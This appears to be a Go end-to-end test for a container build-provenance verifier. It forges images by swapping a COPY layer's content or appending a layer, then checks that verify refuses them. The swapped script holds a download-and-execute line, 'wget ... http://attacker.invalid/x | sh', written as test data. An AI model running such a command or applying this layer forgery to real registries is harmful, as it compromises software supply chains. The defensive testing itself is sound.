@@ -1,0 +1,111 @@
+package e2e
+
+import (
+	"archive/tar"
+	"context"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/opencontainers/go-digest"
+	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
+
+	"github.com/buildtrace/buildtrace/pkg/registry"
+	"github.com/buildtrace/buildtrace/test/lab"
+)
+
+// TestWitnessTrailingCopySwap: the layers above the last traced RUN of the
+// final stage (the `FROM scratch` + `COPY --from=build` shape) were bound
+// only by their place in the signed plan: buildkitd makes them and no
+// traced process ran on them. A registry writer replaces the COPY layer's
+// content (manifest and config diff_ids rewritten consistently) and verify
+// accepted it. The frontend now runs a witness step on every platform's
+// result; the tracer signs the diff digests of the layers it ran on, and
+// verify requires them to be the image's layers (docs/threat-model.md).
+//
+// The second part adds a layer where a trailing WORKDIR made an empty
+// (dropped) one.
+func TestWitnessTrailingCopySwap(t *testing.T) {
+	l := lab.Require(t)
+	l.RequireTracer(t)
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
+	defer cancel()
+	n := randHex(6)
+
+	t.Run("FROM scratch, COPY --from swapped", func(t *testing.T) {
+		body := "FROM BASE AS build\nRUN mkdir /app && echo 'echo honest " + n + "' > /app/run.sh\n" +
+			"FROM scratch\nCOPY --from=build /app /app\n"
+		dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, body)})
+		honest := l.Ref("witness")
+		l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: honest, Push: true})
+		out, code := runCLI(t, l, "verify", honest, "--key", l.TracerPub)
+		expectCode(t, out, code, 0, "verify", honest)
+		t.Logf("honest build:\n%s", out)
+		witnessAllBound(t, out)
+
+		img := l.Image(t, ctx, honest)
+		i := layerOf(t, img.Manifests[0].Config, "COPY --from=build")
+		forged := l.Ref("witness")
+		rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
+			for k := range es {
+				if strings.HasSuffix(es[k].h.Name, "run.sh") {
+					es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
+				}
+			}
+			return es
+		})
+		witnessRefused(t, l, forged, img.Manifests[0].Manifest.Layers[i].Digest)
+	})
+
+	t.Run("layer added over an empty trailing WORKDIR", func(t *testing.T) {
+		body := "FROM BASE\nRUN echo " + n + " > /hi\nWORKDIR /\n"
+		dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, body)})
+		honest := l.Ref("witness")
+		l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: honest, Push: true})
+		out, code := runCLI(t, l, "verify", honest, "--key", l.TracerPub)
+		expectCode(t, out, code, 0, "verify", honest)
+		t.Logf("honest build:\n%s", out)
+		witnessAllBound(t, out)
+
+		img := l.Image(t, ctx, honest)
+		raw := rtWriteTar(t, []rtEnt{{&tar.Header{Name: "hi", Typeflag: tar.TypeReg, Mode: 0o644}, []byte("evil\n")}})
+		forged := l.Ref("witness")
+		ld := pushBytes(t, ctx, registry.New(registry.Options{}), forged, ocispec.MediaTypeImageLayerGzip, rtGzip(t, raw))
+		forge(t, ctx, img, forged, forgery{
+			config: func(c *ocispec.Image) {
+				c.RootFS.DiffIDs = append(slices.Clone(c.RootFS.DiffIDs), digest.FromBytes(raw))
+				c.History = append(c.History, ocispec.History{CreatedBy: "WORKDIR /"})
+			},
+			layers: func(ls []ocispec.Descriptor) []ocispec.Descriptor { return append(ls, ld) },
+		})
+		witnessRefused(t, l, forged, ld.Digest)
+	})
+}
+
+// witnessAllBound requires verify's summary to bind no layer by plan
+// position only.
+func witnessAllBound(t *testing.T, out string) {
+	t.Helper()
+	if !strings.Contains(out, "by plan position only 0,") {
+		t.Errorf("the honest build has layers bound by plan position only:\n%s", out)
+	}
+}
+
+// witnessRefused requires verify to refuse forged for its binding, naming
+// the layer.
+func witnessRefused(t *testing.T, l *lab.Lab, forged string, layer digest.Digest) {
+	t.Helper()
+	out, code := runCLI(t, l, "verify", forged, "--key", l.TracerPub)
+	if code == 0 {
+		t.Errorf("ATTACK WORKS: verify accepts the image with a layer above the last traced RUN replaced:\n%s", out)
+		return
+	}
+	t.Logf("verify %s: exit %d (refused)\n%s", forged, code, out)
+	if !strings.Contains(out, "[binding]") {
+		t.Errorf("verify refuses the forgery, but not for its binding:\n%s", out)
+	}
+	if !strings.Contains(out, layer.String()) {
+		t.Errorf("verify refuses the forgery without naming its layer %s:\n%s", layer, out)
+	}
+}
